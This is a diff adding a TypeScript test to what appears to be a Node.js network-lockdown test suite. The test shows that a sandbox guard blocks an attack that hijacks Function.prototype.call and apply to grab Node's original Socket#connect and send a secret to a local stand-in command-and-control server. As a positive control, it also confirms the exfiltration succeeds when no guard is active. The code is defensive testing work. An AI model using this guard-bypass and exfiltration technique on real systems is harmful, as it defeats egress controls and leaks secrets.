@@ -340,6 +340,49 @@ describe('class 2: other names of the same function', { concurrency: false }, ()
     assert.ok(lab.c2.captured.includes(SECRET), `the C2 got ${lab.c2.applicationBytes} bytes`);
   });
 
+  test('Function.prototype.call/apply replaced to catch the original connect a guard forwards to: nothing to catch, the C2 gets 0 bytes; positive control', async () => {
+    const attack = async (): Promise<string> => {
+      const { call, apply } = Function.prototype;
+      let stolen: ((this: net.Socket, ...args: unknown[]) => net.Socket) | undefined;
+      // Node's own Socket#connect is recognisable by its source.
+      const steal = (fn: unknown, self: unknown): void => {
+        if (self instanceof net.Socket && fn !== net.Socket.prototype.connect && String(fn).includes('normalizedArgsSymbol')) stolen ??= fn as typeof stolen;
+      };
+      Function.prototype.call = function (this: (...args: unknown[]) => unknown, self: unknown, ...args: unknown[]) {
+        steal(this, self);
+        return Reflect.apply(this, self, args);
+      } as typeof call;
+      Function.prototype.apply = function (this: (...args: unknown[]) => unknown, self: unknown, args?: unknown[]) {
+        steal(this, self);
+        return Reflect.apply(this, self, args ?? []);
+      } as typeof apply;
+      try {
+        const probe = net.connect(lab.origin.port, '127.0.0.1');
+        probe.on('error', () => undefined);
+        probe.destroy();
+      } finally {
+        Function.prototype.call = call;
+        Function.prototype.apply = apply;
+      }
+      const socket = new net.Socket();
+      return new Promise((resolve) => {
+        socket.resume();
+        socket.on('connect', () => socket.end(SECRET));
+        socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
+        socket.on('close', () => resolve(stolen ? 'sent with the stolen original' : 'sent'));
+        Reflect.apply(stolen ?? net.Socket.prototype.connect, socket, [{ host: '127.0.0.2', port: lab.c2.port }]);
+      });
+    };
+    lab.reset();
+    const refused = await underLockdown(policy(), [], attack);
+    assert.equal(refused, 'ERR_ENV_COMPROMISED');
+    await settle(100);
+    assert.equal(lab.c2.connections, 0);
+    assert.equal(await attack(), 'sent');
+    await settle(100);
+    assert.ok(lab.c2.captured.includes(SECRET));
+  });
+
   test('every dns resolving method of this Node (resolveTlsa on 24 too, dns/promises, Resolver) refuses an unlisted name: 0 queries reach the name server', async () => {
     const server = dgram.createSocket('udp4');
     const queries: Buffer[] = [];
